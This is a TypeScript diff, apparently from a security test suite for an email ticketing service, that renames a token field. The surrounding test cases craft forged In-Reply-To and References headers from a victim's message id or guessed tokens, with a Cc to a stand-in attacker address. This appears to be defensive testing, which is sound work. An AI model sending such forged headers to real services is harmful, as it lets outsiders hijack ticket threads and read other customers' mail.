@@ -58,7 +58,7 @@ const conversation = async (subject: string) => {
     id: concern.id,
     number: concern.number,
     token: sent.replyToken,
-    deliveryToken: sent.deliveryToken,
+    messageToken: sent.messageToken,
     messageId,
   };
 };
@@ -110,7 +110,7 @@ const guessed = "abcdefghijklmnopqrstuvwxyz234567abcdefghij";
 interface Known {
   readonly number: number;
   readonly token: string;
-  readonly deliveryToken: string;
+  readonly messageToken: string;
   readonly messageId: string;
 }
 
@@ -142,16 +142,16 @@ const hints: readonly (readonly [
   ],
   [
     "message ids of the victim, and ours with another token",
-    ({ number, deliveryToken, messageId }) => ({
-      head: `In-Reply-To: <${messageId}>\r\nReferences: <${messageId}> <dt-${deliveryToken.split("").toReversed().join("")}.${number}@elbkabel.example>\r\nCc: stranger@attacker.example\r\n`,
+    ({ number, messageToken, messageId }) => ({
+      head: `In-Reply-To: <${messageId}>\r\nReferences: <${messageId}> <dt-${messageToken.split("").toReversed().join("")}.${number}@elbkabel.example>\r\nCc: stranger@attacker.example\r\n`,
       to: [service],
       subject: "Vertrag",
     }),
   ],
   [
     "the very message id of our answer",
-    ({ number, deliveryToken }) => ({
-      head: `In-Reply-To: <dt-${deliveryToken}.${number}@elbkabel.example>\r\nCc: stranger@attacker.example\r\n`,
+    ({ number, messageToken }) => ({
+      head: `In-Reply-To: <dt-${messageToken}.${number}@elbkabel.example>\r\nCc: stranger@attacker.example\r\n`,
       to: [service],
       subject: `Re: Vertrag [#${number}]`,
     }),
